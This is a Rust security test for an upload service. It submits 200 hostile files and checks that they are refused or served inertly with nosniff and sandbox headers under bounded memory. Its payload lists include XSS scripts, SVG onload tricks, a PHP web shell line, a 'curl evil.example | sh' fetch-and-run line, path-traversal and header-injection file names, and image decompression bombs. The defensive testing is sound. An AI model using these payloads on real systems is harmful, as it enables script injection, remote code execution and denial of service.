//! Files that were made to do harm: 200 of them, of which none may be served as anything
//! active, nor take more than a bounded amount of memory.

use std::fs;

use image::{ExtendedColorType, ImageEncoder as _, Rgb, RgbImage, codecs::png::PngEncoder};
use reqwest::multipart::{Form, Part};

use crate::{
    uploads::{Uploader, png, url},
    world::{World, read},
};

/// What the process may grow by while it serves all of them, in KiB.
const GROWTH: u64 = 64 * 1024;
const SCRIPT: &str = "<script>alert(document.domain)</script>";

/// Contents that a browser would run, if it took them for what they say.
const ACTIVE: [&str; 16] = [
    "<!DOCTYPE html><script>alert(1)</script>",
    "<html><body onload=alert(1)>",
    "\u{feff}<html><script>alert(1)</script>",
    "\n\n \t<HTML><SCRIPT>alert(1)</SCRIPT>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    "<!-- GIF89a --><svg onload=alert(1)>",
    "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"#x\"?><x/>",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x\"><svg/>",
    "<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<?php system($_GET['c']); ?>",
    "#!/bin/sh\ncurl evil.example | sh\n",
    "GIF89a/*<svg onload=alert(1)>*/=1;alert(1)",
    "alert(document.cookie)//<script>alert(1)</script>",
];

/// What the sender says of them.
const LIES: [(&str, &str); 6] = [
    ("evil.html", "text/html"),
    ("me.png", "image/png"),
    ("../../../srv/web/index.html", "image/svg+xml"),
    ("a.jpg.svg%00.jpg", "application/xhtml+xml"),
    ("..\\..\\evil.js", "application/javascript"),
    ("x.pdf\"; filename=\"evil.html", "text/xml"),
];

/// A file, the name of its trick, and what its sender says that it is.
struct Hostile {
    trick: String,
    name: &'static str,
    content_type: &'static str,
    file: Vec<u8>,
}

fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut jpeg = Vec::new();
    let encoder = image::codecs::jpeg::JpegEncoder::new(&mut jpeg);
    RgbImage::from_pixel(width, height, Rgb([9, 99, 199])).write_with_encoder(encoder).unwrap();
    jpeg
}

fn gif() -> Vec<u8> {
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3b"
        .to_vec()
}

fn webp() -> Vec<u8> {
    let mut webp = std::io::Cursor::new(Vec::new());
    RgbImage::from_pixel(8, 8, Rgb([1, 2, 3]))
        .write_to(&mut webp, image::ImageFormat::WebP)
        .unwrap();
    webp.into_inner()
}

fn pdf() -> Vec<u8> {
    format!("%PDF-1.7\n{SCRIPT}\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")
        .into_bytes()
}

/// A PNG of one colour that is a thousand times as large once it is decoded.
fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    let mut bomb = Vec::new();
    // Grey, so that the test itself takes less than what it tests.
    let pixels = vec![0; (width * height) as usize];
    PngEncoder::new(&mut bomb).write_image(&pixels, width, height, ExtendedColorType::L8).unwrap();
    bomb
}

/// A PNG whose header says another size.
fn png_of_size(width: u32, height: u32) -> Vec<u8> {
    let mut file = png([1, 2, 3]);
    file[16..20].copy_from_slice(&width.to_be_bytes());
    file[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&file[12..29]);
    file[29..33].copy_from_slice(&crc.to_be_bytes());
    file
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }
        })
    })
}

/// A GIF whose screen has this size.
fn gif_of_size(width: u16, height: u16, frames: usize) -> Vec<u8> {
    let still = gif();
    let mut file = still[..19].to_vec();
    file[6..8].copy_from_slice(&width.to_le_bytes());
    file[8..10].copy_from_slice(&height.to_le_bytes());
    for _ in 0..frames {
        file.extend(&still[19..still.len() - 1]);
    }
    file.push(0x3b);
    file
}

/// A WebP without a frame, whose header says this size.
fn webp_of_size(size: u32) -> Vec<u8> {
    let mut file = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0".to_vec();
    for _ in 0..2 {
        file.extend(&(size - 1).to_le_bytes()[..3]);
    }
    file
}

/// Makes a file of a kind.
type Make = fn() -> Vec<u8>;
/// The name of a trick, and its file.
type Trick = (String, Vec<u8>);

/// Polyglots: a file of a kind with a script behind it, or cut off.
fn polyglots() -> Vec<Trick> {
    let kinds: [(&str, Make); 5] = [
        ("png", || png([5, 6, 7])),
        ("jpeg", || jpeg(20, 10)),
        ("gif", gif),
        ("webp", webp),
        ("pdf", pdf),
    ];
    let mut all = Vec::new();
    for (kind, make) in kinds {
        let whole = make();
        for (n, active) in ACTIVE.iter().enumerate() {
            let file = [&whole, active.as_bytes()].concat();
            all.push((format!("{kind} with {n} behind it"), file));
        }
        for part in [8, whole.len() / 2, whole.len() - 1] {
            all.push((format!("{kind} cut at {part}"), whole[..part].to_vec()));
        }
    }
    let script = [b"\xff\xd8\xff\xfe\0\x29", SCRIPT.as_bytes(), &jpeg(9, 9)[2..]].concat();
    all.push(("a comment of a jpeg".to_owned(), script));
    all
}

/// Pictures that are much larger than their files, or say so.
fn bombs() -> Vec<Trick> {
    let mut all = Vec::new();
    for side in [3_000, 8_000] {
        all.push((format!("a png bomb of {side}"), png_bomb(side, side / 2)));
    }
    for (width, height) in [
        (u32::MAX >> 1, u32::MAX >> 1),
        (60_000, 60_000),
        (12_000, 12_000),
        (1, 100_000_000),
        (4_000, 4_000),
        (0, 0),
    ] {
        all.push((format!("a png of {width} by {height}"), png_of_size(width, height)));
    }
    for (width, height, frames) in
        [(65_535, 65_535, 1), (65_535, 65_535, 50), (10_000, 10_000, 2), (3_000, 3_000, 2_000)]
    {
        let file = gif_of_size(width, height, frames);
        all.push((format!("a gif of {width} by {height}"), file));
    }
    for size in [1 << 24, 16_384, 9_000] {
        all.push((format!("a webp of {size}"), webp_of_size(size)));
    }
    all
}

/// Scripts in containers, and kinds without a decoder.
fn containers() -> Vec<Trick> {
    [
        ("a script in gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\xff".as_slice()),
        (
            "a zip with a name that leads out",
            b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0../../index.html",
        ),
        ("an mp4 of a script", b"\0\0\0\x18ftypisom\0\0\0\0"),
        ("a tag of a script", b"ID3\x03\0\0\0\0\0\x40"),
        ("nothing but zeros", &[0; 10_000]),
        ("avif", b"\0\0\0\x1cftypavif\0\0\0\0"),
        ("heic", b"\0\0\0\x1cftypheic\0\0\0\0"),
    ]
    .map(|(trick, head)| (trick.to_owned(), [head, SCRIPT.as_bytes()].concat()))
    .into()
}

/// 200 files.
fn hostile() -> Vec<Hostile> {
    let mut tricks = Vec::new();
    for (n, active) in ACTIVE.iter().enumerate() {
        for lie in 0..3 {
            tricks.push((format!("active {n} with lie {lie}"), active.as_bytes().to_vec()));
        }
    }
    tricks.extend(polyglots());
    tricks.extend(bombs());
    tricks.extend(containers());
    // A letter before the tag: plain text, in which a browser that sniffs would find a page.
    for letter in ('a'..='z').cycle().take(200 - tricks.len()) {
        tricks.push((format!("text with {letter}"), format!("{letter}{SCRIPT}\n").into_bytes()));
    }
    let all: Vec<_> = tricks
        .into_iter()
        .zip(LIES.into_iter().cycle())
        .map(|((trick, file), (name, content_type))| Hostile { trick, name, content_type, file })
        .collect();
    assert_eq!(all.len(), 200);
    all
}

/// The most memory that this process has had so far, or has now, in KiB.
fn memory(line: &str) -> u64 {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let value = status.lines().find_map(|one| one.strip_prefix(line)).unwrap();
    value.trim_matches(|char: char| !char.is_ascii_digit()).parse().unwrap()
}

#[tokio::test]
async fn none_of_200_hostile_files_is_active_or_takes_memory() {
    let world = World::with(|args| {
        args.rates.upload = "10000/1m".parse().unwrap();
        args.media.pictures_at_a_time = 1;
    })
    .await;
    let amina = Uploader::of(&world);
    let files = hostile();
    // The first ones warm up what stays: pools, buffers.
    let warm = Form::new().text("type", "CHAT_MEDIA").part("file", Part::bytes(jpeg(900, 900)));
    assert_eq!(amina.send(warm).await.status, 200);
    let before = memory("VmRSS:");
    // From here on the peak is counted again.
    fs::write("/proc/self/clear_refs", "5").unwrap();
    let (mut stored, mut refused) = (0, 0);
    for Hostile { trick, name, content_type, file } in files {
        let part = Part::bytes(file).file_name(name).mime_str(content_type).unwrap();
        let form = Form::new().text("type", "CHAT_MEDIA").text("id", "x").part("file", part);
        let answer = amina.send(form).await;
        if answer.status != 200 {
            assert_eq!(answer.refusal(), (415, "UNSUPPORTED_MEDIA".to_owned()), "{trick}");
            refused += 1;
            continue;
        }
        stored += 1;
        let url = url(&answer);
        assert!(url.starts_with(&format!("/media/chat/{}/", amina.id)), "{trick}: {url}");
        let thumbnail = answer.payload()["thumbnailUrl"].as_str().map(str::to_owned);
        for url in [Some(url), thumbnail].into_iter().flatten() {
            check(&world, &trick, &url).await;
        }
    }
    let grown = memory("VmHWM:").saturating_sub(before);
    assert!(stored > 50 && refused > 50, "{stored} stored, {refused} refused");
    // Other tests in the same process would count as well.
    let is_alone = std::env::var_os("NEXTEST").is_some()
        || std::env::args().any(|filter| filter.contains("hostile"));
    assert!(grown < GROWTH || !is_alone, "{grown} KiB");
}

/// Whatever was stored is served as something that no browser runs.
async fn check(world: &World, trick: &str, url: &str) {
    let served = read(world.get(url)).await;
    assert_eq!(served.status, 200, "{trick}");
    assert_eq!(served.header("x-content-type-options"), Some("nosniff"), "{trick}");
    let policy = served.header("content-security-policy");
    assert_eq!(policy, Some("default-src 'none'; sandbox"), "{trick}");
    let content_type = served.header("content-type").unwrap();
    for active in ["html", "svg", "xml;", "/xml", "script", "multipart", "octet"] {
        assert!(!content_type.contains(active), "{trick}: {content_type}");
    }
    let is_shown = ["image/", "video/", "audio/"].iter().any(|kind| content_type.starts_with(kind));
    let disposition = if is_shown { "inline" } else { "attachment" };
    assert_eq!(served.header("content-disposition"), Some(disposition), "{trick}");
    if content_type.starts_with("image/") {
        let has_script = served.body.windows(6).any(|part| part.eq_ignore_ascii_case(b"script"));
        assert!(!has_script, "{trick}");
        image::load_from_memory(&served.body).expect(trick);
    }
}
